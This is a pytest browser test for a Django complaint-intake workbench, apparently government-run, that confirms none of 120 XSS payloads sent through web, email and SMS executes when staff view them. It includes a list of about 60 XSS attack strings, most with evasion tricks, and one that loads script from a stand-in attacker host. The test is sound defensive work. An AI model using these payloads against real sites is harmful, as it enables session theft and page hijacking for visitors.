"""At least 100 XSS payloads, each sent through the portal, e-mail and SMS, then viewed at
the workbench in Debian's Chromium: lists, item pages (identity revealed for some),
search. Nothing may execute: no window.__xss, no dialog, no marker on the console, no
CSP violation (which would mean an escape failed and only the CSP saved us), no
injected element with an event handler, no request to another host.
"""

from __future__ import annotations

import base64
from email.message import EmailMessage
from email.utils import formataddr
from typing import Any
from urllib.parse import quote, urlparse

import pytest
from django.test import Client
from django.utils import timezone

from xunshi.accounts.models import Role
from xunshi.accounts.services import staff_create
from xunshi.channels.email.ingest import mail_ingest
from xunshi.channels.sms.receive import sms_receive
from xunshi.intake.models import Item
from xunshi.rounds.models import Round
from xunshi.rounds.selectors import channel_for_kind

pytestmark = [pytest.mark.browser, pytest.mark.django_db(transaction=True)]


# {n} is replaced by the payload's number; JS in them uses only the marker.
TEMPLATES = [
    "<script>window.__xss={n}</script>",
    "<script>alert('XSS{n}')</script>",
    "<SCRIPT>window.__xss={n}</SCRIPT>",
    "<scr<script>ipt>window.__xss={n}</scr</script>ipt>",
    '"><script>window.__xss={n}</script>',
    "'><script>window.__xss={n}</script>",
    "</textarea><script>window.__xss={n}</script>",
    "</title><script>window.__xss={n}</script>",
    "</style><script>window.__xss={n}</script>",
    "<img src=x onerror=window.__xss={n}>",
    '<img src="x" onerror="window.__xss={n}">',
    "<img src=x onerror=alert('XSS{n}')>",
    "<IMG SRC=javascript:window.__xss={n}>",
    "<img src=`x`onerror=window.__xss={n}>",
    "<svg onload=window.__xss={n}>",
    "<svg><script>window.__xss={n}</script></svg>",
    "<svg/onload=window.__xss={n}>",
    "<body onload=window.__xss={n}>",
    "<iframe src=javascript:window.top.__xss={n}></iframe>",
    '<iframe srcdoc="<script>parent.__xss={n}</script>"></iframe>',
    "<details open ontoggle=window.__xss={n}>",
    "<input autofocus onfocus=window.__xss={n}>",
    "<select autofocus onfocus=window.__xss={n}>",
    "<textarea autofocus onfocus=window.__xss={n}>",
    "<marquee onstart=window.__xss={n}>",
    "<video><source onerror=window.__xss={n}></video>",
    "<audio src=x onerror=window.__xss={n}>",
    "<object data=javascript:window.__xss={n}>",
    '<embed src="javascript:window.__xss={n}">',
    "<a href=javascript:window.__xss={n}>点我</a>",
    '<a href="jav&#x09;ascript:window.__xss={n}">点我</a>',
    "<form><button formaction=javascript:window.__xss={n}>提交</button></form>",
    "<math><mtext><table><mglyph><style><img src=x onerror=window.__xss={n}>",
    '<noscript><p title="</noscript><img src=x onerror=window.__xss={n}>">',
    '<div style="background:url(javascript:window.__xss={n})">',
    "<base href=javascript:window.__xss={n}//>",
    '<meta http-equiv="refresh" content="0;url=javascript:window.__xss={n}">',
    "<link rel=stylesheet href=javascript:window.__xss={n}>",
    "<script src=data:,window.__xss={n}></script>",
    "<script src=//evil.example/{n}.js></script>",
    "javascript:window.__xss={n}",
    "';window.__xss={n};//",
    '";window.__xss={n};//',
    "\\u003cscript\\u003ewindow.__xss={n}\\u003c/script\\u003e",
    "&lt;script&gt;window.__xss={n}&lt;/script&gt;",
    "%3Cscript%3Ewindow.__xss={n}%3C/script%3E",
    "<<script>window.__xss={n};//<</script>",
    "<scri\x00pt>window.__xss={n}</scri\x00pt>",
    "{{{{7*7}}}}<script>window.__xss={n}</script>",
    "{{% debug %}}<img src=x onerror=window.__xss={n}>",
    "<ｓｃｒｉｐｔ>window.__xss={n}</ｓｃｒｉｐｔ>",
    "＜script＞window.__xss={n}＜/script＞",
    "举报<script>window.__xss={n}</script>县长",
    "<img src=x onerror=\"console.log('XSS{n}')\">",
    "<svg><animate onbegin=window.__xss={n} attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:window.__xss={n}><text y=20>点</text></a></svg>",
    "<isindex type=image src=1 onerror=window.__xss={n}>",
    "<table background=javascript:window.__xss={n}>",
    "<x onclick=window.__xss={n}>点这里</x>",
    '<img src=x:alert(1) onerror=eval(atob("d2luZG93Ll9feHNzPTE="))>#{n}',
]


def payloads(count: int = 120) -> list[str]:
    out = []
    n = 1
    while len(out) < count:
        for template in TEMPLATES:
            if len(out) >= count:
                break
            out.append(template.replace("{n}", str(n)).replace("{{", "{").replace("}}", "}"))
            n += 1
    return out


RECORDER = """
window.__csp = [];
document.addEventListener("securitypolicyviolation", function (e) {
  window.__csp.push(e.violatedDirective + " " + e.blockedURI);
});
"""
INJECTED = (
    "main [onerror], main [onload], main [onfocus], main [onclick], main [ontoggle], main [onbegin],"
    " main [onstart], main [formaction], main script, main iframe, main object, main embed,"
    " main base, main meta, main link, main a[href^=javascript], main svg"
)


def _portal(client: Client, rnd: Round, payload: str) -> None:
    import re

    # Django's form fields refuse NUL outright; the rest of the payload still goes in.
    payload = payload.replace("\x00", "")
    html = client.get(f"/report/{rnd.slug}/").content.decode()
    fields = dict(re.findall(r'name="(csrfmiddlewaretoken|token|pow_challenge)" value="([^"]*)"', html))
    response = client.post(
        f"/report/{rnd.slug}/",
        {
            **fields,
            "identity_kind": "named",
            "name": payload[:50],
            "phone": "13907310466",
            "address": payload[:200],
            "accused_name": payload[:100],
            "accused_position": payload[:200],
            "subject": payload[:300],
            "content": f"反映问题：{payload}",
        },
    )
    if response.status_code != 200:
        import re as _re

        errors = _re.findall(r'class="errors?[^"]*"[^>]*>(.*?)</', response.content.decode(), _re.S)
        raise AssertionError(f"{payload!r}: {errors}")


def _mail(rnd: Round, payload: str, n: int) -> None:
    message = EmailMessage()
    message["From"] = formataddr((payload.replace("\x00", "")[:60], f"r{n}@example.org"))
    message["To"] = "hbswxsz07@hebei.gov.cn"
    message["Subject"] = payload.replace("\x00", "")
    message["Message-ID"] = f"<xss-{n}@example.org>"
    if n % 2:
        message.set_content(f"反映：{payload}")
    else:
        # HTML-only mail: the payload sits in markup the parser turns into text.
        message.set_content(f"<html><body><p>反映：</p>{payload}</body></html>", subtype="html")
    result = mail_ingest(round=rnd, channel=channel_for_kind(rnd, "email"), raw=bytes(message), source="xss")
    assert result.item or result.duplicate_of, result


def _sms(rnd: Round, payload: str, n: int) -> None:
    result = sms_receive(
        channel=channel_for_kind(rnd, "sms"),
        sender=f"+86139{n:08d}",
        text=payload,
        received_at=timezone.now(),
        source="xss",
        source_id=f"xss-{n}",
    )
    assert result.item or result.duplicate_of, result


def _login(page: Any, base: str, rnd: Round) -> None:
    from django_otp.oath import TOTP

    _, password = staff_create(username="xss_leader", full_name="组长", round=rnd, role=Role.LEADER)
    page.goto(f"{base}/workbench/login/")
    page.fill("#id_username", "xss_leader")
    page.fill("#id_password", password)
    page.click("form.login-form button[type=submit]")
    secret = page.inner_text("#totp-secret").replace(" ", "")
    key = base64.b32decode(secret + "=" * (-len(secret) % 8))
    page.fill("#id_token", f"{TOTP(key).token():06d}")
    page.click("#verify")
    page.wait_for_url(f"{base}/workbench/")


def test_no_payload_executes_in_the_workbench(browser: Any, live_server: Any) -> None:
    from xunshi.rounds.services import round_load_seed

    rnd, _ = round_load_seed(demo=True)
    sent = payloads(120)
    client = Client(enforce_csrf_checks=True)
    for n, payload in enumerate(sent, start=1):
        _portal(client, rnd, payload)
        _mail(rnd, payload, n)
        _sms(rnd, payload, n)
    numbers = list(Item.objects.filter(round=rnd).order_by("seq").values_list("number", flat=True))
    assert len(numbers) >= 3 * len(sent) - 5

    base = live_server.url
    host = urlparse(base).netloc
    context = browser.new_context(locale="zh-CN", viewport={"width": 1280, "height": 900})
    context.add_init_script(RECORDER)
    page = context.new_page()
    page.set_default_timeout(15000)
    executed: list[str] = []
    outside: list[str] = []
    page.on("dialog", lambda d: (executed.append(f"dialog {d.message}"), d.dismiss()))
    page.on("console", lambda m: executed.append(f"console {m.text}") if "XSS" in m.text else None)
    page.on(
        "request",
        lambda r: outside.append(r.url) if urlparse(r.url).netloc not in (host, "") else None,
    )
    _login(page, base, rnd)
    visited = 0

    def check(url: str) -> None:
        nonlocal visited
        visited += 1
        state = page.evaluate(
            "(sel) => [window.__xss, window.top.__xss, window.__csp, document.querySelectorAll(sel).length]",
            INJECTED,
        )
        assert state[0] is None and state[1] is None, f"payload {state[0] or state[1]} ran on {url}"
        assert state[2] == [], f"CSP had to block something on {url}: {state[2]}"
        assert state[3] == 0, f"injected markup became elements on {url}"

    pages = (len(numbers) + 49) // 50
    for number in range(1, pages + 1):
        page.goto(f"{base}/workbench/?page={number}")
        check(page.url)
    for index, number in enumerate(numbers):
        page.goto(f"{base}/workbench/items/{number}/")
        check(page.url)
        if index % 12 == 0 and page.locator("form.reveal-form").count():
            page.fill("form.reveal-form textarea, form.reveal-form input[name=reason]", "核实XSS测试")
            page.click("form.reveal-form button[type=submit]")
            page.wait_for_load_state()
            check(page.url + " (revealed)")
        if index % 15 == 0:
            for extra in (f"/workbench/cases/items/{number}/", f"/workbench/people/items/{number}/"):
                page.goto(base + extra)
                check(page.url)
    for payload in sent[:30]:
        page.goto(f"{base}/workbench/?q={quote(payload)}")
        check(page.url)
    page.wait_for_timeout(300)
    context.close()
    print(
        f"XSS: {len(sent)} payloads × 3 channels = {len(numbers)} items; {visited} pages checked in Chromium"
    )
    assert not executed, executed
    assert not outside, outside
